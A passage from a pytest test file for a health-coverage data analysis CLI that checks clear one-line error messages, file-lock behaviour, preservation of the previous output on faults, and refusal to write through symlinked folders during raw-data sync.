            time.sleep(0.3)
            assert proc.poll() is None and snapshot(out) == before
        except BaseException:
            os.kill(proc.pid, signal.SIGKILL)
            raise
    assert proc.wait(timeout=240) == 0, proc.stderr.read() if proc.stderr else ""
    assert snapshot(out) != before
    io.check_processed_set(out)


def test_lock_timeout_names_the_holder(tmp_path: Path) -> None:
    out = tmp_path / "out"
    out.mkdir()
    holder = subprocess.Popen(
        [
            sys.executable,
            "-c",
            "import sys, time; from uhc_analysis import io\n"
            "with io.writer_lock(sys.argv[1]):\n    print('held', flush=True); time.sleep(60)",
            str(out),
        ],
        stdout=subprocess.PIPE,
        text=True,
    )
    try:
        assert holder.stdout is not None and holder.stdout.readline().strip() == "held"
        with pytest.raises(io.ProcessedSetError, match=rf"still locked by pid {holder.pid} "):
            with io.writer_lock(out, timeout=0.2):
                pass
    finally:
        os.kill(holder.pid, signal.SIGKILL)
        holder.wait(timeout=30)


# --------------------------------------------------------------------------- one sentence per fault


@pytest.mark.parametrize(
    ("argv", "fragment"),
    [
        (("metrics", "--at", "abc"), "'abc' is not a date"),
        (("metrics", "--at", "2023-02-30"), "day is out of range"),
        (("metrics", "--at", "2023-13-01"), "month must be in 1..12"),
        (("metrics", "--at", "20240101"), "YYYY-MM-DD"),
        (("metrics", "--at", ""), "is not a date"),
        (("project", "--as-of", "2023-02-29"), "day is out of range"),
        (("status", "--as-of", "tomorrow"), "'tomorrow' is not a date"),
        (("all", "--at", "abc"), "argument --at"),
        (("figures", "--provinces", "1"), "2-digit BPS province code"),
        (("figures", "--provinces", "abc"), "2-digit BPS province code"),
        (("figures", "--lang", "fr"), "argument --lang"),
        (("bogus",), "invalid choice"),
        ((), "required"),
    ],
)
def test_malformed_argument_is_one_line(
    capsys: pytest.CaptureFixture[str], argv: tuple[str, ...], fragment: str
) -> None:
    code, _, err = run_cli(capsys, *argv)
    assert code == 2
    assert_one_line(err, fragment, "--help")


def _boom(error: int, text: str):  # type: ignore[no-untyped-def]
    def raise_(*args: object, **kwargs: object) -> None:
        raise OSError(error, text, str(args[1]) if len(args) > 1 else None)

    return raise_


def _fault(kind: str, monkeypatch: pytest.MonkeyPatch, out: Path, raw: Path) -> list[str]:
    """Set up fault ``kind``; return the CLI arguments that meet it."""
    base = ["--raw-dir", str(raw), "--out-dir", str(out)]
    if kind == "out_dir_is_a_file":
        shutil.rmtree(out)
        out.write_text("not a folder")
        return [*base, "build"]
    if kind == "metrics_out_dir_is_a_file":
        shutil.rmtree(out)
        out.write_text("not a folder")
        return [*base, "metrics"]
    if kind in ("disk_full", "metrics_disk_full"):
        monkeypatch.setattr(io, "_write_utf8", _boom(errno.ENOSPC, "No space left on device"))
        return [*base, "build" if kind == "disk_full" else "metrics"]
    if kind in ("read_only", "metrics_read_only"):
        monkeypatch.setattr(os, "replace", _boom(errno.EROFS, "Read-only file system"))
        return [*base, "build" if kind == "read_only" else "metrics"]
    if kind in ("no_permission", "metrics_no_permission"):

        def denied(*args: object, **kwargs: object) -> str:
            raise PermissionError(errno.EACCES, "Permission denied", str(out))

        monkeypatch.setattr(io.tempfile, "mkdtemp", denied)
        return [*base, "build" if kind == "no_permission" else "metrics"]
    if kind == "unreadable_raw_file":
        target = raw / "bengkulu" / "population.csv"
        real = Path.read_bytes

        def read_bytes(self: Path) -> bytes:
            if self == target:
                raise PermissionError(errno.EACCES, "Permission denied", str(self))
            return real(self)

        monkeypatch.setattr(Path, "read_bytes", read_bytes)
        return [*base, "build"]
    if kind == "missing_raw_dir":
        return ["--raw-dir", str(raw.parent / "nowhere"), "--out-dir", str(out), "build"]
    if kind == "metrics_before_build":
        return ["--out-dir", str(out.parent / "never-built"), "metrics"]
    raise AssertionError(kind)


@pytest.mark.parametrize(
    ("kind", "fragments"),
    [
        ("out_dir_is_a_file", ["is a file where a folder was expected"]),
        ("metrics_out_dir_is_a_file", ["does not exist", "uhc-analysis build"]),
        ("disk_full", ["no space left on the device", "previous processed set is intact"]),
        ("metrics_disk_full", ["no space left on the device"]),
        ("read_only", ["read-only", "--out-dir"]),
        ("metrics_read_only", ["read-only", "--out-dir"]),
        ("no_permission", ["permission denied", "--out-dir"]),
        ("metrics_no_permission", ["permission denied"]),
        ("unreadable_raw_file", ["bengkulu/population.csv", "cannot be read", "permissions"]),
        ("missing_raw_dir", ["nowhere", "does not exist", "--raw-dir"]),
        ("metrics_before_build", ["coverage_panel.csv", "does not exist", "uhc-analysis build"]),
    ],
)
def test_fault_is_one_line_and_old_set_stays(
    previous: tuple[Path, dict[str, bytes]],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    kind: str,
    fragments: list[str],
) -> None:
    out, before = previous
    raw = good_raw(tmp_path / "raw", shift=5)
    argv = _fault(kind, monkeypatch, out, raw)
    code, _, err = run_cli(capsys, *argv)
    monkeypatch.undo()
    assert code == 2
    assert_one_line(err, *fragments)
    if out.is_dir():
        assert snapshot(out) == before
        io.check_processed_set(out)


def test_debug_shows_the_traceback(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    argv = ["--debug", "--raw-dir", str(tmp_path / "nowhere"), "--out-dir", str(tmp_path), "build"]
    with pytest.raises(RawFileError, match="does not exist"):
        cli.main(argv)


@pytest.mark.parametrize(
    ("content", "fragments"),
    [
        (lines(header("enrolment"), row()).encode("utf-16"), ["line 1", "looks like UTF-16"]),
        (lines(header("enrolment"), row()).encode("utf-16-le"), ["UTF-16"]),
        (lines(header("enrolment"), row()).encode("utf-32"), ["UTF-32"]),
        (lines(header("enrolment"), row(remarks="café")).encode("cp1252"), ["Latin-1"]),
        (lines(header("enrolment"), row(), eol="\r").encode(), ["bare carriage return"]),
        ((header("enrolment") + "\n" + row() + "\rx,y\n").encode(), ["line 2", "carriage return"]),
        (b"PK\x03\x04\x14\x00\x06\x00" + b"\x00" * 64, ["NUL bytes"]),
        (b"\xff\xd8\xff\xe0 not a csv", ["not valid UTF-8"]),
    ],
    ids=["utf16", "utf16le", "utf32", "cp1252", "cr_only", "lone_cr", "xlsx_named_csv", "jpeg"],
)
def test_broken_encoding_or_line_endings_is_named(
    previous: tuple[Path, dict[str, bytes]],
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    content: bytes,
    fragments: list[str],
) -> None:
    out, before = previous
    raw = good_raw(tmp_path / "raw")
    put(raw, "sumsel/enrolment.csv", content)
    code, _, err = run_cli(capsys, "--raw-dir", str(raw), "--out-dir", str(out), "build")
    assert code == 2
    assert_one_line(err, "sumsel/enrolment.csv", *fragments)
    if "utf-16" in fragments[-1].lower():
        assert "Latin-1" not in err
    assert snapshot(out) == before


def test_reject_reasons_carry_no_install_path(tmp_path: Path) -> None:
    raw = tmp_path / "raw"
    unknown = row(region_code="", region_name_reported="Kabupaten Atlantis")
    put(raw, "bengkulu/enrolment.csv", lines(header("enrolment"), unknown))
    reason = clean(raw).rejects["reason"].iloc[0]
    assert "uhc_analysis/reference/region_aliases.csv" in reason
    assert str(config.PACKAGE_DIR) not in reason and not re.search(
        r"(^|\s)/\S+/uhc_analysis", reason
    )


# --------------------------------------------------------------------------- sync-raw


def _facts(root: Path, rel: str = "bengkulu/enrolment.csv", content: bytes | None = None) -> Path:
    facts = root / "facts"
    data = content if content is not None else lines(header("enrolment"), row()).encode()
    put(facts, rel, data)
    return facts


def test_sync_raw_refuses_a_removed_line_and_names_it(tmp_path: Path) -> None:
    raw = tmp_path / "raw"
    text = lines(header("enrolment"), row(), row(period="2023-10"))
    facts = _facts(tmp_path, content=text.encode())
    sync_raw(facts, raw)
    _facts(tmp_path, content=lines(header("enrolment"), row(period="2023-10")).encode())
    with pytest.raises(RawFileError, match=r"line\(s\) 2, 3 .*append-only"):
        sync_raw(facts, raw)
    assert (raw / "bengkulu" / "enrolment.csv").read_text() == text


def test_sync_raw_never_writes_through_a_symlinked_raw_folder(tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    raw = tmp_path / "raw"
    raw.mkdir()
    os.symlink(outside, raw / "bengkulu", target_is_directory=True)
    with pytest.raises(RawFileError, match="symbolic link; not writing through it"):
        sync_raw(_facts(tmp_path), raw)
    assert list(outside.iterdir()) == []


def test_sync_raw_temporary_names_are_not_fixed(tmp_path: Path) -> None:
    """A symlink planted at the old fixed temporary name is never written through."""
    victim = tmp_path / "victim.txt"
    victim.write_text("precious")
    raw = tmp_path / "raw"
    (raw / "bengkulu").mkdir(parents=True)
    os.symlink(victim, raw / "bengkulu" / ".enrolment.csv.tmp")
    assert sync_raw(_facts(tmp_path), raw) == [raw / "bengkulu" / "enrolment.csv"]
    assert victim.read_text() == "precious"


def test_sync_raw_refuses_a_symlinked_facts_folder(tmp_path: Path) -> None:
    elsewhere = put(tmp_path / "elsewhere", "enrolment.csv", "secret\n").parent
    facts = _facts(tmp_path)
    os.symlink(elsewhere, facts / "kaltim", target_is_directory=True)
    with pytest.raises(RawFileError, match="symbolic link"):
        sync_raw(facts, tmp_path / "raw")
    assert not (tmp_path / "raw").exists()


def test_sync_raw_takes_upper_case_extensions(tmp_path: Path) -> None:
    facts = _facts(tmp_path, "bengkulu/population.CSV", lines(header("population")).encode())
    assert [p.name for p in sync_raw(facts, tmp_path / "raw")] == ["population.CSV"]


@pytest.mark.parametrize(
    "case", ["missing_facts", "facts_is_a_file", "onto_a_folder", "raw_is_file"]
)
def test_sync_raw_fault_is_one_line(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], case: str
) -> None:
    raw = tmp_path / "raw"
    facts = _facts(tmp_path)
    if case == "missing_facts":
        facts = tmp_path / "nowhere"
        fragments = ["nowhere", "does not exist", "--facts-dir"]
    elif case == "facts_is_a_file":
        facts = facts / "bengkulu" / "enrolment.csv"
        fragments = ["not a folder", "--facts-dir"]
    elif case == "onto_a_folder":
        (raw / "bengkulu" / "enrolment.csv").mkdir(parents=True)
        fragments = ["bengkulu/enrolment.csv", "is a folder"]
    else:
        raw.write_text("a file")
        fragments = ["raw", "is a file where a folder was expected"]
    code, out, err = run_cli(capsys, "--raw-dir", str(raw), "sync-raw", "--facts-dir", str(facts))
    assert code == 2, out
    assert_one_line(err, *fragments)
